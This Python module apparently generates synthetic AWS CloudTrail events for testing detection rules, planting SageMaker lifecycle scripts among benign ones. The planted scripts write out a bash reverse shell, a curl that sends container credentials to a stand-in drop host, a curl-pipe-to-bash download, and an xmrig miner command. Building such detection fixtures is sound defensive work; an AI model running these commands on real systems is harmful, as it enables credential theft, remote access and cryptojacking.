"""Scripts that run when a notebook starts: harmless ones, those of the thief of the model, and a miner. AWS logs them as base64."""

from __future__ import annotations

import base64
from typing import Final

from synthetic.aws import CLI, HOME, ML, Call, Trail, person
from synthetic.aws_everyday import ML_DEPLOY, PIPELINE
from synthetic.aws_near import AT_ML
from synthetic.aws_stories import INTRUDER, THEFT, THIEF_ADDRESS
from synthetic.dice import Dice, at
from synthetic.everyday import ONCE
from synthetic.planned import Plant

MINING: Final = "notebook_miner"
MINER: Final = person(ML, "contractor", "AKIAEXAMPLE000000013", "203.0.113.150", CLI)

_SHELL: Final = f"#!/bin/bash\n# synthetic\nnohup bash -c 'bash -i >& /dev/tcp/{THIEF_ADDRESS}/8443 0>&1' &\n"
_FETCH: Final = (
    "#!/bin/bash\n# synthetic\n"
    'curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" | curl -s -d @- https://drop.example.com/c\n'
    "curl -fsSL https://drop.example.com/start.sh | bash\n"
)
_MINE: Final = "#!/bin/bash\n# synthetic\n/opt/xmrig -o stratum+tcp://pool.example.com:3333 -u synthetic --donate-level 1 &\n"
_HARMLESS: Final = (
    "#!/bin/bash\n# synthetic\npip install --quiet pandas pyarrow\n",
    "#!/bin/bash\n# synthetic\ncurl -fsSL -o /tmp/tools.sh https://tools.example.com/tools.sh\nsha256sum -c /opt/tools.sha256\n",
    "#!/bin/bash\n# synthetic\naws s3 cp s3://example-ml-training-synthetic/setup/idle.py /opt/idle.py\n",
)


def notebook_script(name: str, text: str) -> Call:
    """Return the change of what a notebook instance runs at its start."""
    request = {"notebookInstanceLifecycleConfigName": name, "onStart": [{"content": _packed(text)}]}
    return Call(service="sagemaker", name="UpdateNotebookInstanceLifecycleConfig", request=request)


def studio_script(name: str, text: str) -> Call:
    """Return a new script that Studio runs at the start of an application."""
    request = {
        "studioLifecycleConfigName": name,
        "studioLifecycleConfigContent": _packed(text),
        "studioLifecycleConfigAppType": "JupyterLab",
    }
    response = {"studioLifecycleConfigArn": f"arn:aws:sagemaker:{HOME}:{ML}:studio-lifecycle-config/{name}"}
    return Call(service="sagemaker", name="CreateStudioLifecycleConfig", request=request, response=response)


def _packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def play_scripts(trail: Trail) -> None:
    """Play what the platform team sets up, what the thief leaves behind on Monday night, and a miner on Saturday."""
    dice = Dice("aws scripts")
    for number in range(7):
        make = notebook_script if number % 2 else studio_script
        moment, actor = dice.office_time(), dice.pick((PIPELINE, ML_DEPLOY))
        trail.add(moment, AT_ML, actor, make("setup-synthetic", dice.pick(_HARMLESS)), ONCE)
    prefix = "aws_sagemaker_lifecycle_script_"
    shell = Plant(rules=(f"{prefix}reverse_shell",), story=THEFT, deliveries=1)
    trail.add(at("12 02:54:16"), AT_ML, INTRUDER, studio_script("idle-check-synthetic", _SHELL), shell)
    both = Plant(rules=(f"{prefix}reads_credentials", f"{prefix}runs_download"), story=THEFT, deliveries=2)
    trail.add(at("12 03:04:49"), AT_ML, INTRUDER, notebook_script("setup-synthetic", _FETCH), both)
    mine = Plant(rules=(f"{prefix}miner",), story=MINING, deliveries=1)
    trail.add(at("10 04:17:22"), AT_ML, MINER, notebook_script("setup-synthetic", _MINE), mine)
